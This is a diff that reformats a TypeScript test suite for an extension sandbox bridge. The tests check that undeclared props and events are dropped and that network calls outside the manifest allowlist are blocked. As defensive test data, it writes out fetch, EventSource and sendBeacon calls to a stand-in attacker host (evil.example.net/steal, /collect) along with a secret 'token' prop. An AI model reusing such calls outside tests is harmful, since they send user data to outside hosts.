@@ -26,7 +26,9 @@ const manifest = {
   entry: 'dist/index.js',
   hostAbi: 1,
   capabilities: { props: PROPS, events: EVENTS, network: ['https://api.example.com'] },
-  contributes: { site: { components: [CARD], features: ['acme.verdicts.bar'], functionBindings: { [CARD]: 'onSave' } } },
+  contributes: {
+    site: { components: [CARD], features: ['acme.verdicts.bar'], functionBindings: { [CARD]: 'onSave' } },
+  },
 };
 
 /** What one run lets through, as the extension and the host each saw it. */
@@ -49,7 +51,12 @@ interface Script {
 
 /** The hostile mount: emits, resizes and calls what the script says, recording what it saw. */
 function scripted(script: Script, out: Outcome, settled: () => void) {
-  return (ctx: { props: Record<string, unknown>; emit(e: string, d?: unknown): void; setHeight(h: number): void; call(p: string, ...a: unknown[]): Promise<unknown> }) => {
+  return (ctx: {
+    props: Record<string, unknown>;
+    emit(e: string, d?: unknown): void;
+    setHeight(h: number): void;
+    call(p: string, ...a: unknown[]): Promise<unknown>;
+  }) => {
     out.propsSeen = { ...ctx.props };
     for (const [name, detail] of script.events) ctx.emit(name, detail);
     for (const h of script.heights) ctx.setHeight(h);
@@ -62,7 +69,15 @@ function scripted(script: Script, out: Outcome, settled: () => void) {
   };
 }
 
-const blank = (): Outcome => ({ propsSeen: {}, droppedProps: [], accepted: [], droppedEvents: [], heights: [], calls: [], results: [] });
+const blank = (): Outcome => ({
+  propsSeen: {},
+  droppedProps: [],
+  accepted: [],
+  droppedEvents: [],
+  heights: [],
+  calls: [],
+  results: [],
+});
 const answer = (...args: unknown[]) => ({ answered: args });
 
 async function throughHarness(script: Script, kind: 'component' | 'feature'): Promise<Outcome> {
@@ -89,9 +104,11 @@ function wiredFrame(): { frame: HTMLIFrameElement; frameWindow: Window; restore(
   const frameWindow = frame.contentWindow!;
   // jsdom's postMessage carries neither event.source nor ports: deliver them as a browser does.
   Object.defineProperty(frameWindow, 'parent', { value: window, configurable: true });
-  frameWindow.postMessage = ((data: unknown, _o: string, t?: unknown[]) => setTimeout(() => deliver(frameWindow, data, window, t))) as Window['postMessage'];
+  frameWindow.postMessage = ((data: unknown, _o: string, t?: unknown[]) =>
+    setTimeout(() => deliver(frameWindow, data, window, t))) as Window['postMessage'];
   const own = window.postMessage;
-  window.postMessage = ((data: unknown, _o: string, t?: unknown[]) => setTimeout(() => deliver(window, data, frameWindow, t))) as Window['postMessage'];
+  window.postMessage = ((data: unknown, _o: string, t?: unknown[]) =>
+    setTimeout(() => deliver(window, data, frameWindow, t))) as Window['postMessage'];
   return { frame, frameWindow, restore: () => (frame.remove(), (window.postMessage = own)) };
 }
 
@@ -107,28 +124,49 @@ async function throughPreview(script: Script, kind: 'component' | 'feature'): Pr
   const bridge = attachBridge({
     frame,
     surface: { kind, id: surface.id },
-    declared: { props: manifest.capabilities.props, events: manifest.capabilities.events, bindingProp: surface.bindingProp },
+    declared: {
+      props: manifest.capabilities.props,
+      events: manifest.capabilities.events,
+      bindingProp: surface.bindingProp,
+    },
     props: script.props,
     config: {},
     onMounted: () => (mounted = true),
     onDroppedProps: (names) => (out.droppedProps = names),
-    onEvent: (event, detail, accepted) => (accepted ? out.accepted.push([event, detail]) : out.droppedEvents.push(event)),
+    onEvent: (event, detail, accepted) =>
+      accepted ? out.accepted.push([event, detail]) : out.droppedEvents.push(event),
     onResize: (h) => out.heights.push(h),
     onCall: ({ prop, name, args }) => (out.calls.push({ prop, name, args }), answer(...args)),
   });
   connectFrame(frameWindow);
   const finite = script.heights.filter((h) => Number.isFinite(h)).length;
-  await vi.waitFor(() => expect(mounted && pending === 0 && out.accepted.length + out.droppedEvents.length === script.events.length && out.heights.length === finite).toBe(true), { timeout: 3000, interval: 2 });
+  await vi.waitFor(
+    () =>
+      expect(
+        mounted &&
+          pending === 0 &&
+          out.accepted.length + out.droppedEvents.length === script.events.length &&
+          out.heights.length === finite,
+      ).toBe(true),
+    { timeout: 3000, interval: 2 },
+  );
   bridge.close();
   restore();
   return out;
 }
 
-const name = fc.oneof(fc.constantFrom(...PROPS, ...EVENTS), fc.constantFrom('token', 'Clicked', 'constructor', '__proto__', ''), fc.string({ maxLength: 6 }));
+const name = fc.oneof(
+  fc.constantFrom(...PROPS, ...EVENTS),
+  fc.constantFrom('token', 'Clicked', 'constructor', '__proto__', ''),
+  fc.string({ maxLength: 6 }),
+);
 const script: fc.Arbitrary<Script> = fc.record({
   props: fc.dictionary(name, fc.oneof(fc.string({ maxLength: 8 }), fc.integer(), fc.boolean()), { maxKeys: 5 }),
   events: fc.array(fc.tuple(name, fc.jsonValue({ maxDepth: 2 })), { maxLength: 5 }),
-  heights: fc.array(fc.oneof(fc.double({ min: -100, max: 1e6, noNaN: true }), fc.constantFrom(Number.NaN, Infinity, 10_000.5)), { maxLength: 4 }),
+  heights: fc.array(
+    fc.oneof(fc.double({ min: -100, max: 1e6, noNaN: true }), fc.constantFrom(Number.NaN, Infinity, 10_000.5)),
+    { maxLength: 4 },
+  ),
   calls: fc.array(fc.constantFrom('onSave', 'title', 'token'), { maxLength: 3 }),
 });
 
@@ -149,7 +187,15 @@ describe('the bridge verdicts, in the harness and in the preview with the runtim
   });
 
   it('agree on a known case, and it is the case the verdicts describe', async () => {
-    const s: Script = { props: { title: 'T', onSave: 'saveCard', token: 's3cret' }, events: [['clicked', { n: 1 }], ['exfil', 'x']], heights: [120.4, 1e9, -5], calls: ['onSave', 'title'] };
+    const s: Script = {
+      props: { title: 'T', onSave: 'saveCard', token: 's3cret' },
+      events: [
+        ['clicked', { n: 1 }],
+        ['exfil', 'x'],
+      ],
+      heights: [120.4, 1e9, -5],
+      calls: ['onSave', 'title'],
+    };
     const harness = await throughHarness(s, 'component');
     expect(harness).toEqual(await throughPreview(s, 'component'));
     expect(harness).toEqual({
@@ -210,15 +256,30 @@ describe('the bridge verdicts, in the harness and in the preview with the runtim
     expect(harness.over).toBe(1_200 - 997);
   });
 
-  it('agree on the network: what render() blocks, the preview\'s network log explains in the same words', async () => {
+  it("agree on the network: what render() blocks, the preview's network log explains in the same words", async () => {
     getRegistry().registrations.push({ kind: 'component', id: CARD, mount: () => {} });
     const view = render(CARD, { manifest, fetch: async () => new Response('ok') });
-    const urls = ['https://evil.example.net/steal?c=1', 'http://api.example.com/v1', 'https://api.example.com:8443/x', 'data:text/plain,hi'];
+    const urls = [
+      'https://evil.example.net/steal?c=1',
+      'http://api.example.com/v1',
+      'https://api.example.com:8443/x',
+      'data:text/plain,hi',
+    ];
     for (const url of urls) await expect(fetch(url)).rejects.toThrow(TypeError);
     await expect(fetch('https://api.example.com/v1/items')).resolves.toBeInstanceOf(Response);
-    const logged = urls.map((url) => parseCspReport(JSON.stringify({ 'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': url } }), 'component:' + CARD, manifest.capabilities.network)!);
-    expect(view.blocked.map(({ directive, origin, fix }) => ({ directive, origin, fix }))).toEqual(logged.map(({ directive, origin, fix }) => ({ directive, origin, fix })));
-    expect(view.blocked[0]!.fix).toBe('Add "https://evil.example.net" to capabilities.network in manifest.json: "network": ["https://api.example.com","https://evil.example.net"]');
+    const logged = urls.map((url) =>
+      parseCspReport(
+        JSON.stringify({ 'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': url } }),
+        'component:' + CARD,
+        manifest.capabilities.network,
+      )!,
+    );
+    expect(view.blocked.map(({ directive, origin, fix }) => ({ directive, origin, fix }))).toEqual(
+      logged.map(({ directive, origin, fix }) => ({ directive, origin, fix })),
+    );
+    expect(view.blocked[0]!.fix).toBe(
+      'Add "https://evil.example.net" to capabilities.network in manifest.json: "network": ["https://api.example.com","https://evil.example.net"]',
+    );
     cleanup();
   });
 
@@ -230,9 +291,22 @@ describe('the bridge verdicts, in the harness and in the preview with the runtim
     new EventSource('https://evil.example.net/stream');
     navigator.sendBeacon('https://evil.example.net/collect', 'x');
     navigator.sendBeacon('https://api.example.com/collect', 'x');
-    const reported = ['wss://api.example.com/live', 'ws://evil.example.net/s', 'https://evil.example.net/stream', 'https://evil.example.net/collect'];
-    const logged = reported.map((url) => parseCspReport(JSON.stringify({ 'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': url } }), 'component:' + CARD, manifest.capabilities.network)!);
-    expect(view.blocked.map(({ url, directive, origin, fix }) => ({ url, directive, origin, fix }))).toEqual(logged.map(({ blocked, directive, origin, fix }) => ({ url: blocked, directive, origin, fix })));
+    const reported = [
+      'wss://api.example.com/live',
+      'ws://evil.example.net/s',
+      'https://evil.example.net/stream',
+      'https://evil.example.net/collect',
+    ];
+    const logged = reported.map((url) =>
+      parseCspReport(
+        JSON.stringify({ 'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': url } }),
+        'component:' + CARD,
+        manifest.capabilities.network,
+      )!,
+    );
+    expect(view.blocked.map(({ url, directive, origin, fix }) => ({ url, directive, origin, fix }))).toEqual(
+      logged.map(({ blocked, directive, origin, fix }) => ({ url: blocked, directive, origin, fix })),
+    );
     cleanup();
   });
 });
